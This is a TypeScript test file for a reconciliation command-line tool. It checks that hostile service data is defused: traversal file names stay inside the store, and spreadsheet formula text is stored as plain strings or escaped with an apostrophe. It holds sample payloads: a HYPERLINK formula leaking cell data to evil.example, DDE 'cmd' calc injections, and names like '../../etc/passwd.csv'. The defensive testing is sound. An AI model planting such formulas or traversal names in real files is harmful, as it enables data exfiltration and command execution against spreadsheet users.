// Item 6: hostile content from the service. File names with `../`, absolute paths or odd bytes never
// become paths (blobs are stored by sha256 inside the store's folder); text starting with `=`, `+`, `-`,
// `@` is never a live formula: xlsx cells are strings, CSV fields get a leading apostrophe.
import { existsSync } from 'node:fs';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { query, tempDir } from '../helpers/recon.js';
import { runCliHere } from '../helpers/in-process.js';
import { buildDisbursement, settlementCsv, startFakeService, type FakeService } from '../helpers/fake-service.js';
import { formulaCells, walk, workbookText } from '../helpers/whole-store.js';

const HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', '+SUM(1+1)*cmd|\' /C calc\'!A0', '-2+3+cmd', '@SUM(A1:A9)'];
const NAMES = ['../../etc/passwd.csv', '/abs/path.csv', 'a\u0000b.csv', '..\\..\\windows\\evil.csv', '....//x.csv'];
const OUTSIDE = ['/etc/passwd.csv', '/abs/path.csv', '/abs'];

let fake: FakeService;
let dir: string;
let cleanup: () => void;
const run = (args: string[]) => runCliHere([...args, '--db', path.join(dir, 'recon.duckdb')]);

beforeAll(async () => {
  for (const p of OUTSIDE) expect(existsSync(p), `${p} exists before the test`).toBe(false);
  ({ dir, cleanup } = tempDir('recon-hostile-'));
  // Payout references, a recipient id and file lines carry formula text. One file line's amount differs
  // from the API (file_vs_api) and the total is off (total_identity), so findings quote that text too.
  const d = buildDisbursement({ id: 'hostile_1', recipient: '@recipient', payouts: HOSTILE.length });
  d.payouts!.forEach((p, i) => (p.reference = HOSTILE[i]));
  d.record.amount = Number(d.record.amount) + 1;
  const lines = d.payouts!.map((p, i) => (i === 0 ? { ...p, amount: Number(p.amount) + 100 } : p));
  d.files = NAMES.map((name) => ({ name, body: settlementCsv(lines) }));
  const plain = buildDisbursement({ id: '=cmd|\'/C calc\'!A0', file: true });
  fake = await startFakeService({ disbursements: [d, plain] });
  const common = ['--api-url', fake.url, '--api-key', fake.apiKey, '--reports', path.join(dir, 'reports'), '--rate-per-minute', '60000', '--sample-budget', '0'];
  const night = await run(['run', ...common]);
  expect(night.code, night.stderr).toBe(1);
  const close = await run(['close', '--month', '2026-10', '--reports', path.join(dir, 'reports')]);
  expect(close.code, close.stderr).toBe(1); // provisional: the hostile night left error findings open
});
afterAll(async () => {
  await fake.close();
  cleanup();
});

describe('file names from the service', () => {
  it('never become paths: every file stays inside the store folder, stored by content hash', async () => {
    for (const p of OUTSIDE) expect(existsSync(p), p).toBe(false);
    expect(existsSync(path.resolve(dir, '../../etc/passwd.csv'))).toBe(false);
    const blobs = walk(path.join(dir, 'files'));
    expect(blobs.length).toBe(2); // one content for the five hostile names, one for the plain file
    for (const b of blobs) expect(path.relative(path.join(dir, 'files'), b)).toMatch(/^[0-9a-f]{2}\/[0-9a-f]{64}$/);
    for (const f of walk(dir)) expect(path.basename(f)).not.toMatch(/passwd|evil|^x\.csv$|path\.csv/);
  });

  it('are kept as the service sent them, odd bytes included, and their files are parsed', async () => {
    const rows = await query(path.join(dir, 'recon.duckdb'),
      `SELECT name, parse_status, extension FROM disbursement_files WHERE disbursement_id = 'hostile_1' ORDER BY file_no`);
    expect(rows.map((r) => r.name)).toEqual(NAMES);
    expect(rows.every((r) => r.parse_status === 'parsed' && r.extension === 'csv')).toBe(true);
  });
});

describe('formula text', () => {
  it('is a plain string cell in every workbook: the exception workbook, the close workbook and recon sql --format xlsx', async () => {
    const out = path.join(dir, 'query.xlsx');
    const q = await run(['sql', `SELECT reference, recipient_id FROM payouts UNION ALL SELECT subject, detail FROM findings`, '--format', 'xlsx', '--out', out]);
    expect(q.code, q.stderr).toBe(0);
    const books = walk(dir).filter((f) => f.endsWith('.xlsx'));
    expect(books.length).toBeGreaterThanOrEqual(3);
    for (const book of books) expect(formulaCells(book), book).toEqual([]);
    const texts = books.map((b) => workbookText(b));
    // not vacuous: the hostile text did reach the workbooks, as text
    for (const h of HOSTILE) expect(texts.some((t) => t.includes(h)), h).toBe(true);
    expect(texts.some((t) => t.includes('@recipient'))).toBe(true);
  });

  it('gets a leading apostrophe in CSV output, and only numbers may start with - or +', async () => {
    const q = await run(['sql', `SELECT p.reference, p.recipient_id, p.amount, l.reference AS file_reference, f.subject, f.detail, f.difference
      FROM payouts p LEFT JOIN file_lines l USING (disbursement_id, payment_id) LEFT JOIN findings f USING (disbursement_id)`, '--format', 'csv']);
    expect(q.code, q.stderr).toBe(0);
    const records = parse(q.stdout, { relax_column_count: true }) as string[][];
    expect(records.length).toBeGreaterThan(HOSTILE.length);
    const fields = records.flat();
    for (const f of fields) {
      if (/^[=+\-@\t\r]/.test(f)) expect(f, 'a live formula in CSV').toMatch(/^-?\d+(\.\d+)?$/);
    }
    for (const h of HOSTILE) expect(fields).toContain(`'${h}`);
    expect(fields).toContain("'@recipient");
  });
});
